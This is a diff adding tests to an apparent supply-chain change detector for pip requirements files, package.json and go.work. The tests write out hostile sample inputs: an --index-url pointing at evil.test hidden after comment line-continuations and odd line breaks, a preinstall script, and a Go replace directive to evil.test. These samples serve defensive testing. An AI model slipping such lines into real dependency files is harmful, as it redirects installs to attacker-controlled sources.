@@ -318,3 +318,25 @@ test('T52: a file that can be run now, or no longer, is told', async () => {
     ],
   );
 });
+
+test('T53: what pip reads as a line of its own is one, whatever stands before it', async () => {
+  const evil = '--index-url https://evil.test/simple';
+  for (const text of [
+    `# note \\\n${evil}\n`,
+    `  # note \\\n${evil}\n`,
+    `requests \\\n# note\n${evil}\n`,
+    `# note\f${evil}\n`,
+    `# note\r${evil}\n`,
+  ])
+    assert.notEqual(await why('requirements.txt', 'requests==2.31.0\n', text), '', JSON.stringify(text));
+  for (const path of ['requirements/dev.txt', 'a/requirements/base.in', 'Requirements.TXT'])
+    assert.notEqual(await why(path, '', `${evil}\n`), '', path);
+  const honest = 'requests==2.31.0 \\\n    --hash=sha256:aa\n# what for \\\nflask>=2 # web\n';
+  assert.equal(await why('requirements.txt', honest, `${honest}# more\n`), '');
+});
+
+test('T53: a manifest is one by any name that some disk takes for its own, and so is a workspace of Go', async () => {
+  assert.notEqual(await why('Package.JSON', json({}), json({ scripts: { preinstall: 'x' } })), '');
+  assert.notEqual(await why('go.work', 'go 1.22\n', 'go 1.22\nreplace a => evil.test/a v1.0.0\n'), '');
+  assert.equal(await why('go.work', 'go 1.22\n', 'go 1.22\nuse ./a\n'), '');
+});
